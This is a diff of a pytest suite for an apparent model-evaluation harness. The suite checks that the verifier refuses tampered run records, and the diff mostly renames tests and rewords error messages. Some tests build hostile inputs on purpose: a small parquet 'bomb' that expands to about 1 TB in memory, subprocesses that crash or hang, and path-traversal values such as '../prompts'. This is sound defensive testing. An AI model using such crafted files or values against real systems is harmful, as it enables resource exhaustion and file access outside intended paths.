+        table = replace_column(table, name, lambda ids: [others.get(one, one) for one in ids])
     return table
 
 
 @pytest.mark.parametrize(
-    ("vocabulary", "change", "said"),
+    ("vocabulary", "change", "message"),
     [
         (None, lambda table: table, ""),
         (None, _replace("argmax", _first(2**31 - 1)), "vocabulary has"),
-        (10**6, _replace("argmax", _first(10**6)), "the token 1,000,000, and the vocabulary has"),
+        (10**6, _replace("argmax", _first(10**6)), "the token id 1,000,000, and the vocabulary has"),
         (10**6, _renumbered, "vocabulary has 1,000,000"),
         (2, lambda table: table, "vocabulary has 2"),
         (10**9, lambda table: table, "vocabulary"),
     ],
 )
-def test_tokens_that_no_vocabulary_has(
-    record: Path, records: Path, vocabulary: int | None, change: Callable[[pa.Table], pa.Table], said: str
+def test_token_ids_outside_the_vocabulary(
+    record: Path, records: Path, vocabulary: int | None, change: Callable[[pa.Table], pa.Table], message: str
 ) -> None:
-    """With a vocabulary that run.json states, and without one, as earlier versions wrote it."""
+    """With the vocabulary in run.json, and without, as in earlier versions."""
     edit(record / "run.json", _model(vocabulary=vocabulary) if vocabulary else _without_vocabulary)
     for file in (VAL, SPARSE, DENSE):
         rewrite(record / file, change)
-    consistent(record)
+    make_consistent(record)
     verdict = verify_record(resign(record, records), records)
-    assert said in "".join(verdict.reasons) and bool(verdict.reasons) == bool(said)
+    assert message in "".join(verdict.reasons) and bool(verdict.reasons) == bool(message)
 
 
 def _without_vocabulary(facts: Json) -> None:
     del facts["model"]["vocabulary"]
 
 
-def test_first_tokens_that_no_vocabulary_has(record: Path, records: Path) -> None:
+def test_first_tokens_outside_the_vocabulary(record: Path, records: Path) -> None:
     edit(record / "run.json", _set("data/tasks/letters/rendering/first_tokens", [1, 99_999_999]))
-    consistent(record)
-    assert "letters.test has the token 99,999,999" in reason(resign(record, records), records)
+    make_consistent(record)
+    assert "letters.test has the token id 99,999,999" in reason(resign(record, records), records)
 
 
 def bomb(schema: pa.Schema, rows: int, path: Path, text: str = "") -> None:
-    """Few bytes on the disk that are many in memory: one value again and again."""
+    """A small file that is large in memory: one repeated value."""
     size = min(rows, 10**6)
     columns = []
     for field in schema:
@@ -1196,34 +1218,34 @@ def bomb(schema: pa.Schema, rows: int, path: Path, text: str = "") -> None:
             writer.write_table(table)
 
 
-def test_ten_million_rows(record: Path, records: Path) -> None:
+def test_too_many_rows_are_refused(record: Path, records: Path) -> None:
     bomb(pq.read_schema(record / VAL), 10**7, record / VAL)
     assert (record / VAL).stat().st_size < 10**6
     assert "10,000,000 rows" in reason(resign(record, records), records)
 
 
-def test_a_table_that_does_not_fit_into_memory(record: Path, records: Path) -> None:
-    """A million times the same megabyte: 1 TB of text in a file of under 100 KB. Its process is ended, not ours."""
+def test_memory_limit(record: Path, records: Path) -> None:
+    """A million times the same megabyte: 1 TB of text in a file below 100 KB. Only the separate process ends."""
     bomb(pq.read_schema(record / LETTERS), 10**6, record / LETTERS, "x" * 2**20)
     assert (record / LETTERS).stat().st_size < 10**5
     verdict = verify_in_sandbox(resign(record, records), records)
     assert not verdict.accepted and verdict.reasons
 
 
-def test_an_honest_record_judged_apart(record: Path, records: Path) -> None:
+def test_valid_record_in_sandbox(record: Path, records: Path) -> None:
     assert verify_in_sandbox(record, records) == verify_record(record, records)
 
 
 def instead(monkeypatch: pytest.MonkeyPatch, program: str) -> None:
-    """Another program in the place of the one that verifies."""
+    """Replaces the verification program by another one."""
     root = str(Path(__file__).parents[2])
     monkeypatch.setattr(
         "harness.models.sandbox.command", lambda module, *words: [sys.executable, "-B", "-c", program, root, *words]
     )
 
 
-def test_a_process_that_ends_is_a_refusal(record: Path, records: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Whatever kills it."""
+def test_crashed_or_slow_process_is_a_refusal(record: Path, records: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """For every cause of the crash."""
     instead(monkeypatch, "import os; os.kill(os.getpid(), 9)")
     assert "by signal 9" in verify_in_sandbox(record, records).reasons[0]
     instead(monkeypatch, "import time; time.sleep(60)")
@@ -1232,7 +1254,7 @@ def test_a_process_that_ends_is_a_refusal(record: Path, records: Path, monkeypat
 
 
 @pytest.mark.parametrize(("error", "memory"), [("ZeroDivisionError", False), ("MemoryError", True)])
-def test_a_judge_that_fails_is_a_refusal(
+def test_failed_verification_is_a_refusal(
     record: Path, monkeypatch: pytest.MonkeyPatch, error: str, memory: bool
 ) -> None:
     program = (
@@ -1240,13 +1262,13 @@ def test_a_judge_that_fails_is_a_refusal(
         f"def fail(*_, **__): raise {error}\nsandbox.verify_record = fail; sandbox.main(*sys.argv[2:])"
     )
     instead(monkeypatch, program)
-    (said,) = verify_in_sandbox(record).reasons
-    assert f"the judge failed on it ({error}" in said and ("memory" in said) == memory
+    (message,) = verify_in_sandbox(record).reasons
+    assert f"verification failed with {error}" in message and ("memory" in message) == memory
     instead(monkeypatch, "raise SystemExit(3)")
-    assert "with status 3)" in verify_in_sandbox(record).reasons[0]
+    assert "with status 3" in verify_in_sandbox(record).reasons[0]
 
 
-def test_the_process_of_a_judge_may_write_nothing_and_knows_no_token(
+def test_sandbox_has_no_write_access_and_no_token(
     record: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     program = (
@@ -1262,7 +1284,7 @@ def test_the_process_of_a_judge_may_write_nothing_and_knows_no_token(
     assert (verdict.path, verdict.reasons) == ("could not", ("False",))
 
 
-def test_verify_says_it_to_people_and_to_machines(cli: Run, record: Path, records: Path) -> None:
+def test_verify_output_as_text_and_json(cli: Run, record: Path, records: Path) -> None:
     result = cli("harness", "verify", record)
     assert result.returncode == 0 and "accepted: local--tiny/" in result.stdout
     result = cli("harness", "verify", records, "--json")
@@ -1276,26 +1298,26 @@ def test_verify_says_it_to_people_and_to_machines(cli: Run, record: Path, record
     assert not verdict["accepted"] and verdict["reasons"]
 
 
-def test_verify_needs_something_to_judge(cli: Run, tmp_path: Path) -> None:
-    assert "no folder" in refused(cli("harness", "verify", tmp_path / "nowhere"))
+def test_verify_without_records(cli: Run, tmp_path: Path) -> None:
+    assert "is not a folder" in refused(cli("harness", "verify", tmp_path / "nowhere"))
     assert "no record" in refused(cli("harness", "verify", tmp_path))
 
 
-# Runs as they are made.
+# Valid runs.
 
 TEMPLATE = "{% for one in messages %}[{{ one.role }}] {{ one.content }}\n{% endfor %}[assistant] "
 
 
 def published(run: Path, records: Path) -> Path:
-    """The record of a run as harness submit makes it."""
+    """Returns the record of a run, as harness submit makes it."""
     edit(run / "run.json", public_facts)
-    consistent(run)
+    make_consistent(run)
     return make_record(run, records)
 
 
 @pytest.fixture(scope="module")
 def talking(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """A model with a chat template, in a folder whose name no model of the Hub has."""
+    """A model with a chat template, in a folder whose name is not a Hub name."""
     folder = models.save_tiny(tmp_path_factory.mktemp("talking") / "tiny--chat.", models.gpt2_like())
     (folder / "chat_template.jinja").write_text(TEMPLATE, encoding="utf-8")
     return folder
@@ -1314,21 +1336,21 @@ def talking(tmp_path_factory: pytest.TempPathFactory) -> Path:
         ["--task", "flipflop-prose", "--exact-continuations"],
     ],
 )
-def test_honest_options(talking: Path, tmp_path: Path, records: Path, options: list[str]) -> None:
+def test_commands_with_options_are_accepted(talking: Path, tmp_path: Path, records: Path, options: list[str]) -> None:
     arguments = ["--model", str(talking), *options, "--limit", "1", "--output", str(tmp_path / "runs")]
     assert main(["eval", *arguments]) == 0
     record = published(only_run(tmp_path / "runs").folder, records)
-    assert judged(record, records).reasons == ()
+    assert verify_unchanged(record, records).reasons == ()
 
 
-def test_the_command_without_options(tmp_path: Path, records: Path) -> None:
-    """A suite, of which a model answers some tasks."""
+def test_command_without_options_is_accepted(tmp_path: Path, records: Path) -> None:
+    """A suite, some of whose tasks the model can answer."""
     assert main(["eval", "--output", str(tmp_path / "runs")]) == 0
     record = published(only_run(tmp_path / "runs").folder, records)
     assert json.loads((record / "run.json").read_text("utf-8"))["left_out"]
-    assert judged(record, records).reasons == ()
+    assert verify_unchanged(record, records).reasons == ()
     edit(record / "run.json", lambda facts: facts["left_out"].popitem() and None)
-    assert "its suite has other tasks" in reason(resign(record, records), records)
+    assert "the tasks of its suite differ" in reason(resign(record, records), records)
 
 
 COMMIT = "0123456789abcdef" * 2 + "01234567"
@@ -1337,7 +1359,7 @@ HUB = {"id": "org/model", "revision": COMMIT}
 
 
 @pytest.mark.parametrize(
-    ("model", "options", "said"),
+    ("model", "options", "message"),
     [
         ({"compiled": True}, "--model tiny --compile", ""),
         ({"adapter": LORA}, "--model tiny --adapter ./lora", ""),
@@ -1360,11 +1382,11 @@ HUB = {"id": "org/model", "revision": COMMIT}
         ({"quantization": "4bit"}, "--model tiny --quantization 4bit", ""),
     ],
 )
-def test_models_as_commands_name_them(record: Path, records: Path, model: Json, options: str, said: str) -> None:
+def test_model_names_in_commands(record: Path, records: Path, model: Json, options: str, message: str) -> None:
     edit(record / "run.json", _both(_model(**model), _command("--model tiny", options)))
-    consistent(record)
+    make_consistent(record)
     record = resign(record, records)
-    assert said in reason(record, records) if said else judged(record, records).reasons == ()
+    assert message in reason(record, records) if message else verify_unchanged(record, records).reasons == ()
 
 
 @pytest.fixture(scope="module")
@@ -1372,40 +1394,40 @@ def external(tmp_path_factory: pytest.TempPathFactory) -> Path:
     folder = tmp_path_factory.mktemp("supplied")
     run = external_run(folder, "--system", "Be brief.", "--limit", "20").folder
     edit(run / "run.json", public_facts)
-    consistent(run)
+    make_consistent(run)
     return run
 
 
 @pytest.mark.parametrize("options", [(), ("--chat", "off", "--shots", "2")])
-def test_outputs_from_elsewhere(tmp_path: Path, records: Path, options: tuple[str, ...]) -> None:
+def test_external_outputs_are_accepted(tmp_path: Path, records: Path, options: tuple[str, ...]) -> None:
     record = published(external_run(tmp_path, *options, "--limit", "5").folder, records)
-    assert judged(record, records).reasons == ()
+    assert verify_unchanged(record, records).reasons == ()
 
 
 @pytest.mark.parametrize(
-    ("change", "said"),
+    ("change", "message"),
     [
-        (_model(dtype="float32"), "nothing else of it"),
-        (_model(parameters=7), "nothing else of it"),
-        (_model(strict=True), "nothing else of it"),
-        (_set("left_out", {"strawberry": "no"}), "nothing else of it"),
+        (_model(dtype="float32"), "no other model fields"),
+        (_model(parameters=7), "no other model fields"),
+        (_model(strict=True), "no other model fields"),
+        (_set("left_out", {"strawberry": "no"}), "no other model fields"),
         (_set("environment/torch", "2.0"), "no environment"),
         (_set("environment/device", "cpu"), "no environment"),
-        (_letters(prompting={"template": "0" * 64}), "does not know"),
-        (_letters(prompting={"thinking": 5}), "does not know"),
-        (_letters(prompting={"opened": True}), "does not know"),
-        (_letters(prompting={"switch": "thinking"}), "does not know"),
-        (_letters(prompting={"template": None}), "only a template says"),
+        (_letters(prompting={"template": "0" * 64}), "does not write"),
+        (_letters(prompting={"thinking": 5}), "does not write"),
+        (_letters(prompting={"opened": True}), "does not write"),
+        (_letters(prompting={"switch": "thinking"}), "does not write"),
+        (_letters(prompting={"template": None}), "options of a chat template"),
         (_letters(rendering={"answers": "text", "first_tokens": [1], "first_token_is_bos": False}), "a rendering"),
-        (_command("--system 'Be brief.'", ""), "no command"),
+        (_command("--system 'Be brief.'", ""), "not a command"),
         (_command(" --system 'Be brief.'", ""), "--system"),
-        (_command("prompts.jsonl", "out/prompts.jsonl"), "more than the name of a file"),
-        (_command("prompts.jsonl", ".prompts"), "more than the name of a file"),
-        (_command("prompts.jsonl", "../prompts"), "folder of somebody's machine"),
+        (_command("prompts.jsonl", "out/prompts.jsonl"), "must be a file name"),
+        (_command("prompts.jsonl", ".prompts"), "must be a file name"),
+        (_command("prompts.jsonl", "../prompts"), "local path"),
     ],
 )
-def test_outputs_from_elsewhere_that_tell_more(
-    external: Path, records: Path, change: Callable[[Json], Any], said: str
+def test_external_outputs_with_extra_fields_are_refused(
+    external: Path, records: Path, change: Callable[[Json], Any], message: str
 ) -> None:
     record = make_record(external, records)
     usual = json.loads((record / "run.json").read_text("utf-8"))["data"]["tasks"]["letters"]["prompting"]
@@ -1416,12 +1438,12 @@ def test_outputs_from_elsewhere_that_tell_more(
 
     edit(record / "run.json", change)
     edit(record / "run.json", _both(changed, with_id))
-    assert said in reason(signed(record, records), records)
+    assert message in reason(resign_if_possible(record, records), records)
 
 
 @pytest.mark.parametrize("name", ["flipflop", "capitals", "strawberry"])
-def test_tasks_that_nobody_answers_from_elsewhere(record: Path, records: Path, name: str) -> None:
-    """What was read off probabilities, or said in turns, is said to come from a service."""
+def test_tasks_without_external_outputs(record: Path, records: Path, name: str) -> None:
+    """Tasks with log-probabilities or turns, labelled as external outputs."""
 
     def change(facts: Json) -> None:
         facts |= {"outputs": "supplied", "command": f"harness prompts --task {name} --out prompts.jsonl"}
@@ -1434,8 +1456,8 @@ def test_tasks_that_nobody_answers_from_elsewhere(record: Path, records: Path, n
     edit(record / "run.json", change)
     for path in (record / "observations").iterdir():
         path.unlink() if not path.name.startswith(f"{name}.") else None
-    consistent(record)
-    assert f"{name} cannot be answered from elsewhere" in reason(resign(record, records), records)
+    make_consistent(record)
+    assert f"{name} cannot have external outputs" in reason(resign(record, records), records)
 
 
 @pytest.mark.parametrize(
@@ -1445,5 +1467,5 @@ def test_tasks_that_nobody_answers_from_elsewhere(record: Path, records: Path, n
         (".hidden", "hidden"), ("x" * 95 + "-yz", "x" * 95), ("Smol-135M-Instruct.Q4_1", "Smol-135M-Instruct.Q4_1"),
     ],
 )  # fmt: skip
-def test_names_of_folders(name: str, called: str) -> None:
+def test_model_names_of_folders(name: str, called: str) -> None:
     assert folder_name(name) == f"local/{called}"
